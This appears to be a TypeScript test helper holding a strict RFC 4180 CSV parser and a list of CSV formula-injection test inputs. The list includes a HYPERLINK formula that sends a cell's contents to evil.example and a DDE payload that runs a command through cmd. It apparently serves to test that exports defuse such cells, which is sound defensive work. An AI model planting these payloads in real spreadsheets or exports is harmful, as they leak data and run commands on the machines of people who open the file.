/** Reads a CSV by RFC 4180 and nothing more, so that what a test finds in it stands there. */
export function readCsv(text: string): readonly (readonly string[])[] {
  const lines: string[][] = [[]];
  const cells = /"((?:[^"]|"")*)"(,|\r\n)/gy;
  let end = 0;
  for (let found = cells.exec(text); found; found = cells.exec(text)) {
    lines.at(-1)!.push(found[1]!.replaceAll('""', '"'));
    if (found[2] !== ',') lines.push([]);
    end = cells.lastIndex;
  }
  if (end !== text.length) throw new Error(`not RFC 4180 at ${end}: ${text.slice(end, end + 40)}`);
  return lines.slice(0, -1);
}

/** The cells of each line by their header. */
export function csvRecords(text: string): readonly Readonly<Record<string, string>>[] {
  const [header = [], ...lines] = readCsv(text.replace(/^\ufeff/, ''));
  return lines.map((cells) => {
    if (cells.length !== header.length) throw new Error(`${cells.length} cells under ${header.length} headers`);
    return Object.fromEntries(header.map((title, index) => [title, cells[index]!]));
  });
}

/** What would be a formula if a spreadsheet were let. */
export const formulas = [
  '=1+1',
  '+44 7700 900982',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"Open")',
  `=cmd|' /C calc'!A0`,
  '＝1+1',
  '"=1+1',
  '",=1+1,"',
  '\u00a0=1+1',
];
